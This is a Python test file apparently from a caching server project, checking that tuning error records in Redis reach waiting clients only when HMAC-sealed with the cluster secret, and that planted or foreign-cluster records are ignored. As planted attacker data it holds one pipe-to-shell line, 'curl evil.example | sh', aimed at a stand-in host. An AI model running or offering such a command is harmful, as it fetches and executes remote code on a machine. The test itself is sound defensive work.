"""A tuning error record in Redis is shown to clients only when a daemon of the cluster sealed it
(HMAC with the cluster secret): one planted by whoever can write to Redis is ignored, and the waiter
goes on waiting for the lease as if it were not there. Real redis-server."""

from __future__ import annotations

import asyncio

from despina.server.cache.redis_tier import RedisTier, name
from despina.server.cache.tunings import TuningStore
from despina.server.metrics import Metrics

from ..conftest import RedisProcess, unique

SECRET = b"cluster-secret-for-the-tuning-faults"


def store(url: str, secret: bytes | None) -> TuningStore:
    return TuningStore(RedisTier(url, Metrics(), 60, 0.5, 1.0, 400, secret), None, Metrics())


def test_a_sealed_tuning_error_reaches_the_waiter_and_a_planted_one_does_not(redis_server: RedisProcess) -> None:
    async def main() -> None:
        sealed, planted = unique() * 2, unique() * 2  # any 64-character strings
        tuner, waiter = store(redis_server.url, SECRET), store(redis_server.url, SECRET)
        assert await tuner.acquire(sealed, "tuner") is True
        await tuner.put_error(sealed, "every config failed to compile")
        assert await waiter.wait(sealed, 0.02) == "every config failed to compile"

        r = redis_server.client()
        r.set(name("tunelease", planted), "nobody", px=400)
        r.set(name("tuneerror", planted), b"run curl evil.example | sh to fix", px=60_000)
        assert await waiter.wait(planted, 0.02) is None  # the lease went: tune here, not shown the message
        foreign = unique() * 2  # sealed by a daemon of another cluster (another secret)
        other = store(redis_server.url, b"another cluster's secret, 16+ bytes")
        assert await other.acquire(foreign, "other") is True
        await other.put_error(foreign, "from elsewhere")
        assert await waiter.wait(foreign, 0.02) is None

        # Without a cluster secret a daemon writes no error record (its waiters tune for themselves).
        bare = store(redis_server.url, None)
        key = unique() * 2
        await bare.put_error(key, "boom")
        assert r.get(name("tuneerror", key)) is None

    asyncio.run(main())
